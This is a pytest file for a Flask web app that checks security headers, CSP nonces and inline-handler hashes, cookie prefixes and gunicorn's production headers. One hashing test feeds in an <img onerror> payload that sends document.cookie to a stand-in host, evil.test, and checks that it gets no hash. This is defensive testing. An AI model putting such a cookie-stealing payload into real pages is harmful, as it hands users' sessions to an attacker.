"""Every response carries the security headers, with the production configuration: a sample of
each blueprint's pages and files, signed in and not."""

import os
import re
import socket
import subprocess
import sys
import time
import urllib.error
import urllib.request
from base64 import b64encode
from hashlib import sha256
from html.parser import HTMLParser

import pytest

from app.auth.roles import AREAS
from app.config import BASE_DIR
from app.extensions import db
from app.models import Document, Quote, ServiceRequest, Unit, WorkOrder
from app.models.enums import StaffRole
from app.security_headers import handler_hashes
from app.services.service_requests import hash_status_token
from app.storage import save_bytes
from tests import factories as f
from tests.clean_tables import written_elsewhere
from tests.helpers import ACTION_ENDPOINTS, PRODUCTION, WORK_ORDER_PAGES, stored_logo
from tests.portal_helpers import customer_with_everything
from tests.signed_in import sign_in_by_key

HTTPS = "https://localhost"
STATUS_TOKEN = "status-token-for-the-header-tests"
ANYONE, CUSTOMER, STAFF = "anyone", "customer", "staff"
SECRET, ASSET = "secret URL", "public asset"


@pytest.fixture
def production(make_app):
    return make_app(**PRODUCTION)


@pytest.fixture
def records(app):
    with app.test_request_context():
        f.CompanySettingsFactory(logo_key=stored_logo(b"\x89PNG logo"))
        ids = customer_with_everything("Mine")
        pdf = save_bytes(
            b"%PDF-1.4 manual",
            folder="docs",
            suffix=".pdf",
            filename="m.pdf",
            content_type="application/pdf",
        )
        db.session.get(Document, ids[Document]).storage_key = pdf.key
        request = db.session.get(ServiceRequest, ids[ServiceRequest])
        request.status_token_hash = hash_status_token(STATUS_TOKEN)
        db.session.commit()
        return {**ids, "token": db.session.get(Unit, ids[Unit]).qr_token}


def _sample(records) -> list[tuple[str, str, str, set[str]]]:
    """(who, method, path, what the URL is) for pages and files of every blueprint."""
    token, document = records["token"], records[Document]
    return [
        (ANYONE, "GET", "/", set()),
        (ANYONE, "GET", "/login", set()),
        (ANYONE, "POST", "/language", set()),
        (ANYONE, "POST", "/stripe/webhook", set()),
        (ANYONE, "GET", "/no-such-page", set()),
        (ANYONE, "GET", "/static/tuffops.css", {ASSET}),
        (ANYONE, "GET", "/brand/logo", {ASSET}),
        (ANYONE, "GET", f"/u/{token}", {SECRET}),
        (ANYONE, "GET", f"/U/{token}", {SECRET}),
        (ANYONE, "GET", "/u/NOSUCHTOKEN", {SECRET}),
        (ANYONE, "GET", "/u/lookup?code=nothing", set()),
        (ANYONE, "GET", f"/request-status/{STATUS_TOKEN}", {SECRET}),
        (ANYONE, "GET", "/portal/login", set()),
        (ANYONE, "GET", "/portal/link/not-a-real-link", {SECRET}),
        (ANYONE, "GET", "/portal/", set()),
        (CUSTOMER, "GET", "/portal/", set()),
        (CUSTOMER, "GET", f"/portal/quotes/{records[Quote]}", set()),
        (CUSTOMER, "GET", f"/portal/documents/{document}", set()),
        (CUSTOMER, "GET", "/portal/history.csv", set()),
        (CUSTOMER, "GET", f"/u/{token}", {SECRET}),
        (STAFF, "GET", "/admin/", set()),
        (STAFF, "GET", "/admin/workorder/", set()),
        (STAFF, "GET", f"/admin/unit/edit/?id={records[Unit]}", set()),
        (STAFF, "GET", "/admin/static/admin/js/helpers.js", {ASSET}),
        (STAFF, "GET", f"/admin/files/documents/{document}", set()),
        (STAFF, "GET", f"/u/{token}", {SECRET}),
        (STAFF, "GET", "/admin/dispatch/", set()),
    ]


def _client(app, who: str, records, make_staff):
    client = app.test_client()
    user_id = {CUSTOMER: f"portal:{records['user']}", STAFF: f"staff:{make_staff('admin')}"}
    if who in user_id:
        sign_in_by_key(client, user_id[who], base_url=HTTPS)
    return client


class _StartTags(HTMLParser):
    def __init__(self):
        super().__init__()
        self.tags: list[tuple[str, dict]] = []

    def handle_starttag(self, tag, attrs):
        self.tags.append((tag, dict(attrs)))


def _start_tags(page: bytes) -> list[tuple[str, dict]]:
    """Every start tag of the page with its attributes (values unescaped, as a browser reads)."""
    parser = _StartTags()
    parser.feed(page.decode())
    return parser.tags


def _directives(csp: str) -> dict[str, str]:
    return {d.split()[0]: d.partition(" ")[2] for d in csp.split("; ") if d}


def test_every_sampled_response_carries_the_security_headers(production, records, make_staff):
    problems = []
    for who, method, path, kind in _sample(records):
        client = _client(production, who, records, make_staff)
        with client.open(path, method=method, base_url=HTTPS) as response:
            headers = response.headers
            csp = _directives(headers.get("Content-Security-Policy", ""))
            expected = {
                "X-Frame-Options": "DENY",
                "X-Content-Type-Options": "nosniff",
                "Strict-Transport-Security": "max-age=63072000",
                "Referrer-Policy": "no-referrer"
                if SECRET in kind
                else "strict-origin-when-cross-origin",
            }
            if ASSET not in kind:
                expected["Cache-Control"] = "no-store"
            seen = {name: headers.get(name) for name in expected}
            if seen != expected:
                problems.append(f"{who} {method} {path}: {seen}")
            if csp.get("frame-ancestors") != "'none'" or "unsafe-inline" in csp.get(
                "script-src", csp.get("default-src", "")
            ):
                problems.append(f"{who} {method} {path}: CSP {csp}")
            if "camera=()" not in headers.get("Permissions-Policy", "") or "Server" in headers:
                problems.append(f"{who} {method} {path}: {dict(headers)}")
            if ASSET not in kind and response.status_code >= 500:
                problems.append(f"{who} {method} {path}: {response.status_code}")
    assert problems == [], "\n".join(problems)


def test_pages_allow_only_scripts_from_the_site_or_with_this_requests_nonce(
    production, records, make_staff
):
    client = _client(production, STAFF, records, make_staff)
    nonces = set()
    for path in ("/admin/", f"/admin/unit/edit/?id={records[Unit]}", "/admin/workorder/"):
        response = client.get(path, base_url=HTTPS)
        script_src = _directives(response.headers["Content-Security-Policy"])["script-src"]
        (nonce,) = re.findall(r"'nonce-([^']+)'", script_src)
        assert (
            script_src.startswith(f"'self' 'nonce-{nonce}'") and "unsafe-inline" not in script_src
        )
        scripts = [attrs for tag, attrs in _start_tags(response.data) if tag == "script"]
        assert scripts and all(script.get("nonce") == nonce for script in scripts), path
        nonces.add(nonce)
    assert len(nonces) == 3


def test_the_checkout_redirect_is_an_allowed_form_target(production):
    csp = _directives(
        production.test_client().get("/login", base_url=HTTPS).headers["Content-Security-Policy"]
    )
    assert csp["form-action"] == "'self' https://checkout.stripe.com"


def test_development_sends_no_hsts(client):
    response = client.get("/login")
    assert "Strict-Transport-Security" not in response.headers
    assert response.headers["X-Frame-Options"] == "DENY"


def test_production_cookies_carry_the_host_prefix(production, make_staff):
    make_staff("admin", email="ann@example.com")
    client = production.test_client()
    form = client.get("/login", base_url=HTTPS)
    token = re.search(r'name="csrf_token"[^>]*value="([^"]+)"', form.data.decode()).group(1)
    signed_in = client.post(
        "/login",
        base_url=HTTPS,
        headers={"Referer": f"{HTTPS}/"},
        data={
            "csrf_token": token,
            "email": "ann@example.com",
            "password": "correct horse battery",
            "remember": "y",
        },
    )
    assert signed_in.status_code == 302
    cookies = {c.split("=")[0]: c.lower() for c in signed_in.headers.getlist("Set-Cookie")}
    remember = production.config["STAFF_REMEMBER_COOKIE_NAME"]
    assert remember.startswith("__Host-") and set(cookies) >= {"__Host-session", remember}
    for cookie in cookies.values():
        assert "secure" in cookie and "path=/" in cookie and "domain=" not in cookie
    assert client.get("/admin/", base_url=HTTPS).status_code == 200


def test_only_flask_admins_own_inline_handlers_get_a_hash():
    page = (
        '<a onclick="return modelActions.execute(&#39;print_stickers&#39;);">'
        "<button onclick=\"return faHelpers.safeConfirm('Delete this record?');\">"
        '<a onclick="return false;"><a onclick="faForm.addInlineField(this, \'lines\');">'
        "<img onerror=\"fetch('//evil.test/'+document.cookie)\">"
        "<a onclick=\"return modelActions.execute('x'); steal()\">"
    )
    allowed = [
        "return modelActions.execute('print_stickers');",
        "return faHelpers.safeConfirm('Delete this record?');",
        "return false;",
        "faForm.addInlineField(this, 'lines');",
    ]
    expected = sorted(
        f"'sha256-{b64encode(sha256(code.encode()).digest()).decode()}'" for code in allowed
    )
    assert handler_hashes(page) == expected


@pytest.fixture
def gunicorn_url(app):
    """The app as production runs it: gunicorn, TUFFOPS_ENV=production, on a local port this
    test binds and hands over (no other process can take it in between); yields the base URL
    once gunicorn answers."""
    written_elsewhere()
    env = {
        **os.environ,
        "TUFFOPS_ENV": "production",
        "SECRET_KEY": "a-long-random-production-secret-for-gunicorn",
        "PUBLIC_BASE_URL": "https://service.polarbear.test",
        "RATELIMIT_STORAGE_URI": "memory://",
        "DATABASE_URL": app.config["SQLALCHEMY_DATABASE_URI"],
        "STORAGE_DIR": app.config["STORAGE_DIR"],
    }
    with socket.socket() as held:
        held.bind(("127.0.0.1", 0))
        url = f"http://127.0.0.1:{held.getsockname()[1]}"
        server = subprocess.Popen(  # noqa: S603  (our own arguments)
            [
                sys.executable,
                "-m",
                "gunicorn",
                "--workers",
                "1",
                "--bind",
                f"fd://{held.fileno()}",
                "wsgi:app",
            ],
            cwd=BASE_DIR,
            env=env,
            pass_fds=[held.fileno()],
            stdout=subprocess.DEVNULL,
            stderr=subprocess.PIPE,
        )
        try:
            _wait_until_answering(server, f"{url}/login")
            yield url
        finally:
            server.terminate()
            server.wait(timeout=60)
            server.stderr.close()


def _wait_until_answering(server: subprocess.Popen, url: str, within: float = 120) -> None:
    """Until `url` answers: gunicorn starts listening before its worker has loaded the app,
    which takes a while on a busy machine."""
    deadline = time.monotonic() + within
    while True:
        try:
            waiting = max(deadline - time.monotonic(), 1)
            with urllib.request.urlopen(url, timeout=waiting) as answer:  # noqa: S310
                answer.read()
            return
        except urllib.error.HTTPError:
            raise
        except urllib.error.URLError:  # refused: gunicorn is not listening yet
            assert server.poll() is None, server.stderr.read().decode()
            assert time.monotonic() < deadline, f"gunicorn did not answer within {within} s"
            time.sleep(0.1)


def test_gunicorn_in_production_names_no_version_and_sends_the_headers(gunicorn_url):
    with urllib.request.urlopen(f"{gunicorn_url}/login", timeout=60) as answer:  # noqa: S310
        headers = answer.headers
    assert headers["Server"] == "gunicorn"  # no version; the proxy in front replaces it
    assert headers["Strict-Transport-Security"] == "max-age=63072000"
    assert headers["X-Frame-Options"] == "DENY" and headers["Cache-Control"] == "no-store"
    assert "frame-ancestors 'none'" in headers["Content-Security-Policy"]


@pytest.mark.parametrize("language", ["en", "es"])
def test_every_inline_handler_on_admin_pages_is_one_the_policy_allows(
    app, client, login_as, records, language
):
    """A handler the policy has no hash for would silently do nothing in the browser."""
    login_as("admin")
    (admin,) = app.extensions["admin"]
    pages = [
        f"{view.url}/" if not view.url.endswith("/") else view.url
        for view in admin._views
        if not getattr(view, "area", "") or StaffRole.ADMIN in AREAS[view.area]  # not My day
        if view.endpoint not in WORK_ORDER_PAGES.keys() | ACTION_ENDPOINTS
    ]
    pages += [page.format(records[WorkOrder]) for page in WORK_ORDER_PAGES.values()]
    pages += ["/admin/workorder/new/", "/admin/quote/new/", "/admin/invoice/new/"]
    checked = 0
    for path in pages:
        response = client.get(path, headers={"Accept-Language": language})
        assert response.status_code == 200, path
        script_src = _directives(response.headers["Content-Security-Policy"])["script-src"]
        for _tag, attrs in _start_tags(response.data):
            for name, code in attrs.items():
                if name.startswith("on"):
                    digest = b64encode(sha256(code.encode()).digest()).decode()
                    assert f"'sha256-{digest}'" in script_src, f"{path}: {name}={code!r}"
                    checked += 1
    assert checked > 10, checked
